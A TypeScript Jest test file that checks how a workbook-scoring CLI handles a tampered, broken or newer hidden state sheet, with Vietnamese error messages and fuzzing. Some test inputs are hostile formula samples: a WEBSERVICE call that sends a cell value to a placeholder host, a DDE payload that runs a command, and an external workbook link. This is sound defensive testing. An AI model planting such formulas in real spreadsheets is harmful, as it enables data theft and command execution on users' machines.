/**
 * A received workbook whose hidden state was tampered with, made by a newer version, or broken:
 * `undo` refuses in Vietnamese and writes nothing, `score` reports and ignores a broken state
 * (the workbook is never stuck), and never rewrites a newer one.
 */
/* eslint-disable @typescript-eslint/no-explicit-any -- these tests tamper with untyped JSON on purpose */
import { promises as fs } from "node:fs";
import * as path from "node:path";
import fc from "fast-check";
import { STATE_SHEET } from "../../src/model/plan";
import { readStateChunks } from "../../src/plan";
import { readState } from "../../src/adapters/exceljs";
import { cells, cli, EXAMPLES, exists, load, tmpDir } from "./helpers";
import { mutate, mutationArb } from "../plan/state-hostile";

jest.setTimeout(120000);

const PHU_TAN = path.join(EXAMPLES, "phu-tan-2024-05-tuan-01.xlsx");
let dir: string;
let scored: string;
let stateJson: Record<string, unknown>;

beforeAll(async () => {
  dir = await tmpDir();
  scored = path.join(dir, "scored.xlsx");
  expect((await cli("score", PHU_TAN, "--out", scored)).code).toBe(0);
  const ws = (await load(scored)).getWorksheet(STATE_SHEET)!;
  const chunks: string[] = [];
  ws.eachRow((row) => chunks.push(String(row.getCell(1).value)));
  stateJson = JSON.parse(chunks.join("")) as Record<string, unknown>;
});
afterAll(async () => {
  await fs.rm(dir, { recursive: true, force: true });
});

let n = 0;
/** The scored workbook with its state replaced by `doc` (any JSON), saved under a new name. */
async function withState(doc: unknown): Promise<string> {
  const wb = await load(scored);
  const ws = wb.getWorksheet(STATE_SHEET)!;
  ws.eachRow((row) => (row.getCell(1).value = null));
  ws.getCell(1, 1).value = JSON.stringify(doc);
  const file = path.join(dir, `tampered-${++n}.xlsx`);
  await wb.xlsx.writeFile(file);
  return file;
}

function tampered(change: (d: any) => void): Record<string, unknown> {
  const doc = JSON.parse(JSON.stringify(stateJson)) as any;
  change(doc);
  return doc;
}

describe("a tampered state", () => {
  test.each([
    ["v: null", (d: any) => (d.lastRun.segments[0].v = null)],
    ["ZZZ1", (d: any) => (d.lastRun.segments[0].a = "ZZZ1")],
    ["A1048577", (d: any) => (d.lastRun.segments[0].a = "A1048577")],
    ["a formula snapshot", (d: any) => (d.lastRun.segments[0].s = d.lastRun.segments[0].v.map(() => [{ formula: 'WEBSERVICE("http://x")' }, "General", 0]))],
    ["a WEBSERVICE formula snapshot", (d: any) => (d.lastRun.segments[0].s = d.lastRun.segments[0].v.map(() => ['=WEBSERVICE("http://x/?"&A1)', "General", 0]))],
    ["a DDE formula snapshot", (d: any) => (d.lastRun.segments[0].s = d.lastRun.segments[0].v.map(() => ["=cmd|' /C calc'!A0", "General", 0]))],
    ["an external workbook in a snapshot", (d: any) => (d.lastRun.segments[0].s = d.lastRun.segments[0].v.map(() => ["='http://x/[a.xlsx]S'!A1", "General", 0]))],
    ["2,000,000 cells", (d: any) => (d.lastRun.segments[0].v = new Array(2_000_000).fill(null))],
  ])("(%s): undo refuses and writes nothing; score --profile and score still work", async (_, change) => {
    const file = await withState(tampered(change));
    const out = path.join(dir, `undo-${n}.xlsx`);
    const undo = await cli("undo", file, "--out", out);
    expect(undo.code).toBe(2);
    expect(undo.stderr).toMatch(/^Dữ liệu chiso766 lưu trong sổ \(trang ẩn "chiso766_state"\) không dùng được: .*\nKhông ghi tệp nào\.\n$/);
    expect(await exists(out)).toBe(false);
    for (const args of [["--profile", "an-giang-tuan"], []]) {
      const scoredAgain = path.join(dir, `again-${n}-${args.length}.xlsx`);
      const r = await cli("score", file, "--out", scoredAgain, ...args);
      expect(r.code).toBe(0);
      expect(r.stderr).toMatch(/^Chú ý: Dữ liệu chiso766 lưu trong sổ .* Đã bỏ qua/);
      // The state is replaced by a good one: the workbook is not stuck.
      expect(readState(await load(scoredAgain))).toMatchObject({ issue: null, state: { version: 1 } });
      // Every cell already held its result: the rescore is no undo point that would undo nothing.
      expect(r.stdout).toContain("Không có ô nào cần ghi trên trang Phụ lục 1: các ô đã có đúng kết quả này.");
      const undoAgain = await cli("undo", scoredAgain, "--out", path.join(dir, `undo-again-${n}-${args.length}.xlsx`));
      expect([undoAgain.code, undoAgain.stderr]).toEqual([2, expect.stringMatching(/không có lần chấm điểm nào của chiso766 để hoàn tác/)]);
    }
  });

  test("a state made by a newer version: score and undo say so and write nothing", async () => {
    const file = await withState({ ...stateJson, version: 2, app: "0.4.2" });
    for (const command of ["score", "undo"]) {
      const out = path.join(dir, `newer-${command}.xlsx`);
      const r = await cli(command, file, "--out", out);
      expect(r.code).toBe(2);
      expect(r.stderr).toBe("Dữ liệu chiso766 trong sổ này được tạo bởi phiên bản chiso766 mới hơn (0.4); hãy cập nhật chiso766 rồi mới chấm lại hoặc hoàn tác trên sổ này.\nKhông ghi tệp nào.\n");
      expect(await exists(out)).toBe(false);
    }
  });

  test("mutated states through score and undo: no stack trace, a Vietnamese message, no cell outside the run changed", async () => {
    const original = cells((await load(PHU_TAN)).getWorksheet("Phụ lục 1")!);
    await fc.assert(
      fc.asyncProperty(fc.array(mutationArb, { minLength: 1, maxLength: 3 }), async (mutations) => {
        const doc = mutate(stateJson, mutations);
        const file = await withState(doc);
        // The cells the (tampered) state says the run wrote: undo may touch those only.
        const written = new Set(readStateChunks([JSON.stringify(doc)]).state?.lastRun?.written.map((w) => w.address));
        const out = path.join(dir, `fuzz-${n}.xlsx`);
        const undo = await cli("undo", file, "--out", out);
        expect(undo.stderr).not.toMatch(/ {4}at |Lỗi không mong đợi/);
        if (undo.code !== 0) {
          expect(undo.stderr).toMatch(/[ăâđêôơưạ-ỹ]/i);
          return;
        }
        const after = cells((await load(out)).getWorksheet("Phụ lục 1")!);
        for (const address of new Set([...Object.keys(original), ...Object.keys(after)])) {
          if (!written.has(address)) expect(after[address]).toEqual(original[address]);
        }
        const score = await cli("score", file, "--profile", "an-giang-tuan", "--out", path.join(dir, `fuzz-score-${n}.xlsx`));
        expect(score.stderr).not.toMatch(/ {4}at |Lỗi không mong đợi/);
      }),
      { numRuns: 25 },
    );
  });
});
